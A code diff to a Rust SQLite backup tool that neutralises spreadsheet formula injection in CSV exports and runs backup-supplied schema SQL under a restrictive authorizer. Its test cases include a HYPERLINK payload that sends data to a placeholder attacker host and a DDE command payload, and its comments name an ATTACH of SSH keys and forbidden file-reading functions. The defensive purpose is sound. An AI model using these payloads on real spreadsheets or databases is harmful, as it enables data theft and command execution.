@@ -7,6 +7,10 @@
 //! then a safety backup of the whole database, then one transaction that replaces the tables'
 //! rows; rows of other tables left pointing at nothing (foreign keys) roll it back unless the
 //! person confirmed. It is recorded as a restore, so undo puts back the database as it was.
+//!
+//! A table gone from the live database, and the export of a table as a database of its own,
+//! are created again from the backup's schema: SQL text from outside, run only as a single
+//! `CREATE TABLE` or `CREATE INDEX` of that table under an authorizer (see `run_definition`).
 
 use std::collections::BTreeSet;
 use std::path::{Path, PathBuf};
@@ -179,19 +183,30 @@ impl BackupView {
 
     /// Writes every row of `table` as CSV to `out` (a header line with the column names, then
     /// one line per row; a blob in hex, SQL NULL as an empty field); returns the rows written.
+    /// Values are written exactly as they are, for programs; a CSV file meant for a spreadsheet
+    /// is [`BackupView::export_csv_file`].
     pub fn export_csv(&self, table: &str, out: &mut dyn std::io::Write) -> Result<u64> {
+        self.write_csv(table, out, false)
+    }
+
+    /// [`BackupView::export_csv`], with every value a spreadsheet would run as a formula
+    /// neutralised when `for_spreadsheet` (see `spreadsheet_cell`).
+    fn write_csv(&self, table: &str, out: &mut dyn std::io::Write, for_spreadsheet: bool) -> Result<u64> {
+        let cell = |v: &str| -> String {
+            if for_spreadsheet { spreadsheet_cell(v).into_owned() } else { v.to_owned() }
+        };
         let mut w = csv::Writer::from_writer(out);
         let failed = |e: csv::Error| Error::new(ErrorCode::Io, format!("cannot write the CSV: {e}"));
         let mut header = true;
         let n = self.each_row(table, |columns, values| {
             if std::mem::take(&mut header) {
-                w.write_record(columns).map_err(failed)?;
+                w.write_record(columns.iter().map(|c| cell(c))).map_err(failed)?;
             }
-            w.write_record(values.iter().map(|v| v.as_deref().unwrap_or(""))).map_err(failed)
+            w.write_record(values.iter().map(|v| cell(v.as_deref().unwrap_or("")))).map_err(failed)
         })?;
         if header {
             // No rows: the header line alone.
-            w.write_record(&self.table(table)?.columns).map_err(failed)?;
+            w.write_record(self.table(table)?.columns.iter().map(|c| cell(c))).map_err(failed)?;
         }
         w.flush().map_err(|e| Error::new(ErrorCode::Io, format!("cannot write the CSV: {e}")))?;
         Ok(n)
@@ -216,12 +231,9 @@ impl BackupView {
             out.execute_batch("PRAGMA foreign_keys = OFF").map_err(werr)?;
             out.execute("ATTACH DATABASE ?1 AS b", [self.path.to_string_lossy()]).map_err(werr)?;
             out.execute_batch("BEGIN").map_err(werr)?;
-            let ddl: Vec<String> = out
-                .prepare("SELECT sql FROM b.sqlite_schema WHERE tbl_name = ?1 AND sql IS NOT NULL AND type IN ('table', 'index') ORDER BY type = 'index', name")
-                .and_then(|mut st| st.query_map([table], |r| r.get(0))?.collect())
-                .map_err(|e| self.err(e))?;
-            for sql in ddl {
-                out.execute_batch(&sql).map_err(werr)?;
+            let ddl = definitions(&out, table).map_err(|e| self.err(e))?;
+            for d in &ddl {
+                run_definition(&out, d, table).map_err(|e| e.into_error(&self.meta.id, table, tmp))?;
             }
             let rowid = if info.key == ["rowid"] { "rowid, " } else { "" };
             let cols = info.columns.iter().map(|c| q(c)).collect::<Vec<_>>().join(", ");
@@ -263,7 +275,10 @@ impl BackupView {
         Ok(n)
     }
 
-    /// Writes `table` as CSV to a new file at `dest` (see [`BackupView::export_csv`]).
+    /// Writes `table` as CSV to a new file at `dest` (see [`BackupView::export_csv`]), for a
+    /// spreadsheet: a value that a spreadsheet would run as a formula (it starts with `=`, `+`,
+    /// `-`, `@`, a tab or a carriage return) gets a `'` in front, so it shows as the text it is
+    /// (see `spreadsheet_cell`).
     pub fn export_csv_file(&self, table: &str, dest: &Path) -> Result<u64> {
         self.export_file(dest, ".csv", |tmp| {
             let mut f = std::fs::OpenOptions::new()
@@ -271,7 +286,7 @@ impl BackupView {
                 .truncate(true)
                 .open(tmp)
                 .map_err(|e| Error::write(tmp, e))?;
-            self.export_csv(table, &mut f)
+            self.write_csv(table, &mut f, true)
         })
     }
 
@@ -289,6 +304,22 @@ impl BackupView {
     fn err(&self, e: rusqlite::Error) -> Error {
         Error::new(ErrorCode::BackupDamaged, format!("{}: {e}", self.meta.id)).with_backup(&self.meta.id)
     }
+}
+
+/// `value` as a spreadsheet cell that is never a formula.
+///
+/// A backup's content is not trusted, and spreadsheet apps run a cell starting with `=`, `+`,
+/// `-` or `@` as a formula (one that can fetch a URL or, in old versions, start a program); a
+/// leading tab or carriage return hides such a start. As OWASP advises for CSV injection, such
+/// a value gets a single quote in front, which spreadsheets show as text and do not display.
+/// A plain number (`-12`, `+3.5`, `-1e-9`) is left as it is: it is no formula, and a quote
+/// would turn it into text.
+fn spreadsheet_cell(value: &str) -> std::borrow::Cow<'_, str> {
+    let risky = value.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let number = value.len() > 1
+        && value.bytes().all(|b| b.is_ascii_digit() || matches!(b, b'+' | b'-' | b'.' | b'e' | b'E'))
+        && value.parse::<f64>().is_ok();
+    if risky && !number { format!("'{value}").into() } else { value.into() }
 }
 
 /// A value as text for a person.
@@ -444,16 +475,8 @@ impl Engine {
                     ),
                     None => {
                         // Gone since: created again as it was, with its indexes.
-                        let mut stmt = conn
-                            .prepare("SELECT sql FROM b.sqlite_schema WHERE tbl_name = ?1 AND sql IS NOT NULL AND type IN ('table', 'index') ORDER BY type = 'index', name")
-                            .map_err(berr)?;
-                        let ddl = stmt
-                            .query_map([t], |r| r.get::<_, String>(0))
-                            .map_err(berr)?
-                            .collect::<rusqlite::Result<Vec<_>>>()
-                            .map_err(berr)?;
-                        for sql in ddl {
-                            conn.execute_batch(&sql).map_err(terr)?;
+                        for d in &definitions(&conn, t).map_err(berr)? {
+                            run_definition(&conn, d, t).map_err(|e| e.into_error(&meta.id, t, target))?;
                         }
                         None
                     }
@@ -540,4 +563,201 @@ fn referring_tables(
         }
     }
     Ok(out)
+}
+
+/// One definition of a table or of one of its indexes, as the backup's `sqlite_schema` holds it.
+struct Definition {
+    /// `table` or `index`.
+    kind: String,
+    /// The table's or the index's name.
+    name: String,
+    /// Its SQL text, as found in the backup: not trusted.
+    sql: String,
+}
+
+/// The definitions of `table` in the backup attached as `b`: the table first, then its indexes.
+fn definitions(conn: &Connection, table: &str) -> rusqlite::Result<Vec<Definition>> {
+    let mut stmt = conn.prepare(
+        "SELECT type, name, sql FROM b.sqlite_schema WHERE tbl_name = ?1 AND sql IS NOT NULL AND type IN ('table', 'index') ORDER BY type = 'index', name",
+    )?;
+    stmt.query_map([table], |r| Ok(Definition { kind: r.get(0)?, name: r.get(1)?, sql: r.get(2)? }))?
+        .collect()
+}
+
+/// Why a definition from a backup was not run.
+enum DefinitionFailed {
+    /// It would do more than create `table` or one of its indexes in `main` (what, for a person).
+    Unsafe(String),
+    /// SQLite refused it (a name already taken, a full disk).
+    Sqlite(rusqlite::Error),
+}
+
+impl DefinitionFailed {
+    /// The error for a person: an unsafe definition is the backup's fault (`unsafe_schema`),
+    /// anything else is about `written`, the database being written.
+    fn into_error(self, backup: &str, table: &str, written: &Path) -> Error {
+        match self {
+            DefinitionFailed::Unsafe(what) => Error::new(
+                ErrorCode::BackupDamaged,
+                format!(
+                    "backup {backup} holds a definition of the table {table:?} that does more than create it ({what}); Keepsake ran none of it and changed nothing. The database in this backup was altered on purpose or is damaged: take the table from another backup"
+                ),
+            )
+            .with_backup(backup)
+            .with_reason("unsafe_schema")
+            .with_tables(vec![table.to_owned()]),
+            DefinitionFailed::Sqlite(e) => Error::internal_db(written, e),
+        }
+    }
+}
+
+/// Functions a definition may never call, even where SQLite would let it (reading or writing
+/// files, loading code).
+const FORBIDDEN_FUNCTIONS: &[&str] = &["load_extension", "readfile", "writefile", "edit", "fts3_tokenizer"];
+
+/// Runs definition `d` of `table`, taken from a backup, on `conn`: only when it is exactly one
+/// `CREATE TABLE` of `table` (or `CREATE [UNIQUE] INDEX` on it, for an index) in `main`.
+///
+/// A backup's schema is hostile input: SQLite itself parses only the first statement of each
+/// `sqlite_schema.sql` when it loads a schema (and `integrity_check` says ok), so a crafted file
+/// can carry `DROP TABLE`, `COMMIT` or `ATTACH '~/.ssh/authorized_keys'` after its `CREATE
+/// TABLE`. The text is therefore prepared as a single statement (a tail is refused), under an
+/// authorizer that allows only what creating this one table or index touches: its own name, its
+/// columns, SQLite's schema table of `main`. Everything else (attaching, transactions, pragmas,
+/// another table, another schema, a temporary object) is denied before anything runs.
+fn run_definition(
+    conn: &Connection,
+    d: &Definition,
+    table: &str,
+) -> std::result::Result<(), DefinitionFailed> {
+    use rusqlite::hooks::{AuthAction, AuthContext, Authorization};
+    use std::sync::{Arc, Mutex};
+
+    #[derive(Default)]
+    struct Seen {
+        /// Objects of the expected kind and name this statement creates.
+        created: u32,
+        /// The first action denied, for the message.
+        denied: Option<String>,
+    }
+    let seen = Arc::new(Mutex::new(Seen::default()));
+    let is_table = d.kind == "table";
+    let (name, wanted, record) = (d.name.clone(), table.to_owned(), Arc::clone(&seen));
+    conn.authorizer(Some(move |ctx: AuthContext<'_>| {
+        let main = ctx.database_name == Some("main");
+        let schema_table = |t: &str| main && (t == "sqlite_master" || t == "sqlite_schema");
+        let Ok(mut seen) = record.lock() else {
+            return Authorization::Deny;
+        };
+        let allowed = match ctx.action {
+            AuthAction::CreateTable { table_name } if is_table => {
+                let ok = main && table_name == wanted;
+                seen.created += u32::from(ok);
+                ok
+            }
+            // A table's UNIQUE and PRIMARY KEY constraints make SQLite's own indexes.
+            AuthAction::CreateIndex { index_name, table_name } if is_table => {
+                main && table_name == wanted && index_name.starts_with("sqlite_autoindex_")
+            }
+            AuthAction::CreateIndex { index_name, table_name } => {
+                let ok = main && table_name == wanted && index_name == name;
+                seen.created += u32::from(ok);
+                ok
+            }
+            AuthAction::Reindex { index_name } => main && index_name == name,
+            AuthAction::Read { table_name, .. } => main && (table_name == wanted || schema_table(table_name)),
+            AuthAction::Insert { table_name } | AuthAction::Update { table_name, .. } => {
+                schema_table(table_name)
+            }
+            AuthAction::Function { function_name } => {
+                !FORBIDDEN_FUNCTIONS.iter().any(|f| f.eq_ignore_ascii_case(function_name))
+            }
+            _ => false,
+        };
+        if allowed {
+            Authorization::Allow
+        } else {
+            seen.denied.get_or_insert_with(|| denied_action(&ctx));
+            Authorization::Deny
+        }
+    }));
+    let result = (|| {
+        let unsafe_one = |e: rusqlite::Error| match e {
+            rusqlite::Error::MultipleStatement => {
+                DefinitionFailed::Unsafe("more statements after the first".to_owned())
+            }
+            e => match seen.lock().ok().and_then(|s| s.denied.clone()) {
+                Some(what) => DefinitionFailed::Unsafe(what),
+                None => DefinitionFailed::Sqlite(e),
+            },
+        };
+        let mut stmt = conn.prepare(&d.sql).map_err(unsafe_one)?;
+        let created = seen.lock().map(|s| s.created).unwrap_or(0);
+        if created != 1 {
+            return Err(DefinitionFailed::Unsafe(format!(
+                "not a CREATE {} of {:?}",
+                if is_table { "TABLE" } else { "INDEX" },
+                if is_table { table } else { d.name.as_str() }
+            )));
+        }
+        stmt.raw_execute().map(drop).map_err(unsafe_one)
+    })();
+    // The authorizer is for backup-supplied SQL only: Keepsake's own statements run without it.
+    conn.authorizer(None::<fn(AuthContext<'_>) -> Authorization>);
+    result
+}
+
+/// What a denied action would have done, for a person.
+fn denied_action(ctx: &rusqlite::hooks::AuthContext<'_>) -> String {
+    use rusqlite::hooks::AuthAction as A;
+    let db = ctx.database_name.map(|d| format!(" in {d:?}")).unwrap_or_default();
+    match ctx.action {
+        A::Attach { filename } => format!("it attaches the file {filename:?}"),
+        A::Detach { database_name } => format!("it detaches {database_name:?}"),
+        A::Transaction { operation } => format!("it ends or starts a transaction ({operation:?})"),
+        A::Savepoint { .. } => "it uses a savepoint".to_owned(),
+        A::Pragma { pragma_name, .. } => format!("it runs PRAGMA {pragma_name}"),
+        A::DropTable { table_name } | A::DropTempTable { table_name } => {
+            format!("it drops the table {table_name:?}{db}")
+        }
+        A::CreateTable { table_name } | A::CreateTempTable { table_name } => {
+            format!("it creates the table {table_name:?}{db}")
+        }
+        A::CreateIndex { index_name, table_name } | A::CreateTempIndex { index_name, table_name } => {
+            format!("it creates the index {index_name:?} on {table_name:?}{db}")
+        }
+        A::Delete { table_name } => format!("it deletes from {table_name:?}{db}"),
+        A::Insert { table_name } => format!("it writes to {table_name:?}{db}"),
+        A::Update { table_name, .. } => format!("it changes {table_name:?}{db}"),
+        A::Read { table_name, .. } => format!("it reads {table_name:?}{db}"),
+        A::Function { function_name } => format!("it calls {function_name}()"),
+        other => format!("{other:?}{db}"),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::spreadsheet_cell;
+
+    #[test]
+    fn a_cell_a_spreadsheet_would_run_gets_a_quote_and_numbers_stay_numbers() {
+        for (value, cell) in [
+            ("=HYPERLINK(\"http://evil.example/?\"&A1)", "'=HYPERLINK(\"http://evil.example/?\"&A1)"),
+            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(1,1)", "'@SUM(1,1)"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("-", "'-"),
+            ("plain text", "plain text"),
+            ("a=b", "a=b"),
+            ("", ""),
+            ("-12", "-12"),
+            ("+3.5", "+3.5"),
+            ("-1e-9", "-1e-9"),
+            ("42", "42"),
+        ] {
+            assert_eq!(spreadsheet_cell(value), cell, "{value:?}");
+        }
+    }
 }
